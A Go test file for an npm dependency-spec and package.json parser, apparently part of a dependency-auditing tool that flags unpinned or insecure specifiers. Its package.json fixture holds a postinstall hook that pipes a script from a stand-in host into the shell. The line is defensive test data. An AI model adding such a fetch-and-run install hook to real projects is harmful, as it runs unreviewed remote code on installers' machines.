package deps

import (
	"reflect"
	"testing"
)

func TestNpmSpec(t *testing.T) {
	sha := "358e689c65e9943b53eff50bcb9dfd5b1cfc4072"
	cases := []struct {
		spec     string
		kind     SpecKind
		unpinned bool
	}{
		{"^2.0.0", SpecRange, false}, {"~1.2", SpecRange, false}, {"1.2.3", SpecRange, false},
		{"*", SpecRange, true}, {"", SpecRange, true}, {"x", SpecRange, true}, {">=1.0.0", SpecRange, true},
		{">1 <3", SpecRange, false}, {"1.x || >=5", SpecRange, true}, {"latest", SpecTag, true},
		{"next", SpecTag, true}, {"beta", SpecTag, true},
		{"github:infinilabs/tauri-plugin-updater#" + sha, SpecGit, false},
		{"github:infinilabs/tauri-plugin-updater#main", SpecGit, true},
		{"github:infinilabs/tauri-plugin-updater", SpecGit, true},
		{"infinilabs/tauri-plugin-updater", SpecGit, true},
		{"infinilabs/tauri-plugin-updater#" + sha, SpecGit, false},
		{"git+https://github.com/x/y.git#" + sha, SpecGit, false},
		{"git+https://github.com/x/y.git#semver:^1.0", SpecGit, true},
		{"git+ssh://git@github.com/x/y.git", SpecGit, true}, {"git://github.com/x/y.git#v1", SpecGit, true},
		{"git@github.com:x/y.git#" + sha, SpecGit, false}, {"https://github.com/x/y", SpecGit, true},
		{"https://github.com/x/y.git#" + sha, SpecGit, false}, {"gitlab:x/y", SpecGit, true},
		{"https://example.com/pkg-1.0.0.tgz", SpecTarball, true},
		{"http://example.com/pkg.tgz", SpecTarball, true},
		{"https://github.com/x/y/archive/v1.tar.gz", SpecTarball, true},
		{"file:../local", SpecFile, false}, {"../local", SpecFile, false}, {"./x", SpecFile, false},
		{"link:../x", SpecLink, false}, {"workspace:*", SpecWorkspace, false}, {"workspace:^", SpecWorkspace, false},
		{"npm:string-width@^4.2.0", SpecAlias, false}, {"npm:left-pad", SpecAlias, true},
		{"npm:@scope/pkg@latest", SpecAlias, true}, {"catalog:", SpecCatalog, false}, {"catalog:react18", SpecCatalog, false},
		{"$react", SpecRef, false}, {"portal:../x", SpecProtocol, false}, {"patch:a@npm%3A1.0.0#./p.patch", SpecProtocol, false},
		{"not a spec!", SpecInvalid, false}, {"@scope/pkg", SpecFile, false}, {"a/b/c", SpecFile, false},
		{"foo.tgz", SpecFile, false}, {"x/y.tgz", SpecGit, true}, {"bitbucket:a/b", SpecGit, true},
	}
	for _, c := range cases {
		s := ParseNpmSpec(c.spec)
		if s.Kind != c.kind || (s.Unpinned() != "") != c.unpinned {
			t.Errorf("%q: kind %s unpinned %q; want %s, %v", c.spec, s.Kind, s.Unpinned(), c.kind, c.unpinned)
		}
	}
	a := ParseNpmSpec("npm:string-width@^4.2.0")
	if a.AliasName != "string-width" || a.Target.Kind != SpecRange || !a.Range.MatchesString("4.2.3") {
		t.Errorf("alias = %+v", a)
	}
	g := ParseNpmSpec("git+http://host/x.git#" + sha)
	if !g.Insecure || !g.GitPinned() || g.Committish != sha || g.URL != "git+http://host/x.git" {
		t.Errorf("git = %+v", g)
	}
	if s := ParseNpmSpec("git+https://h/x#semver:^1.2"); s.SemverRef != "^1.2" {
		t.Errorf("semver ref = %q", s.SemverRef)
	}
	if !ParseNpmSpec("workspace:*").Local() || ParseNpmSpec("^1").Local() {
		t.Error("Local()")
	}
}

const packageJSONFixture = `{
  "name": "app",
  "version": "1.0.0",
  "packageManager": "pnpm@9.15.0",
  "workspaces": ["packages/*"],
  "scripts": {
    "postinstall": "curl -fsSL https://x.example/i.sh | sh",
    "build": "vite build"
  },
  "dependencies": {
    "@tauri-apps/api": "^2.1.0",
    "@tauri-apps/plugin-updater": "github:infinilabs/tauri-plugin-updater#v2",
    "left-pad": "latest",
  },
  "devDependencies": { "@tauri-apps/cli": "2.0.0-rc.3" },
  "peerDependencies": { "react": ">=18" },
  "optionalDependencies": { "fsevents": "*" },
  "overrides": {
    "foo": "1.0.0",
    "bar": { ".": "2.0.0", "baz": "3.0.0", "qux": { "quux": "$react" } }
  },
  "resolutions": { "**/lodash": "4.17.21", "a/@scope/b": "1.0.0" },
  "pnpm": { "overrides": { "foo@1>bar": "^2", "@s/x": "-" } },
  "bad": { "x": 1 }
}
`

func TestPackageJSON(t *testing.T) {
	f := file("package.json", packageJSONFixture)
	p, err := ParsePackageJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "app" || p.PackageManager != "pnpm@9.15.0" || !reflect.DeepEqual(p.Workspaces, []string{"packages/*"}) {
		t.Errorf("package = %+v", p)
	}
	var got []string
	for _, d := range p.Deps {
		got = append(got, string(d.Group)+" "+d.Name+" "+d.Selector+" "+string(d.Spec.Kind))
	}
	want := []string{
		"dependencies @tauri-apps/api  range", "dependencies @tauri-apps/plugin-updater  git", "dependencies left-pad  tag",
		"devDependencies @tauri-apps/cli  range", "peerDependencies react  range", "optionalDependencies fsevents  range",
		"overrides foo foo range", "overrides bar bar range", "overrides baz bar>baz range", "overrides quux bar>qux>quux reference",
		"resolutions lodash **/lodash range", "resolutions @scope/b a/@scope/b range",
		"pnpm.overrides bar foo@1>bar range", "pnpm.overrides @s/x @s/x tag",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("deps:\n got %q\nwant %q", got, want)
	}
	up := p.Dep("@tauri-apps/plugin-updater")
	if at(up.Loc) != "12:5" || at(up.SpecLoc) != "12:35" || text(f, up.SpecLoc) != `"github:infinilabs/tauri-plugin-updater#v2"` {
		t.Errorf("updater at %s / %s", at(up.Loc), at(up.SpecLoc))
	}
	if len(p.Scripts) != 2 || p.Scripts[0].Name != "postinstall" || at(p.Scripts[0].Loc) != "7:20" {
		t.Errorf("scripts = %+v", p.Scripts)
	}
	// Trailing comma: JWCC warning-free parse; nothing else to report.
	noDiags(t, "package.json", p.Diagnostics)
	if _, err := ParsePackageJSON(file("package.json", `{"dependencies": {"a": 1}}`)); err != nil {
		t.Fatal(err)
	}
	bad, _ := ParsePackageJSON(file("package.json", `{"dependencies": {"a": 1}}`))
	if len(bad.Diagnostics) != 1 || at(bad.Diagnostics[0].Loc) != "1:24" {
		t.Errorf("diagnostics %v", bad.Diagnostics)
	}
	if _, err := ParsePackageJSON(file("package.json", `{"dependencies": {`)); err == nil {
		t.Error("truncated package.json must fail")
	}
}
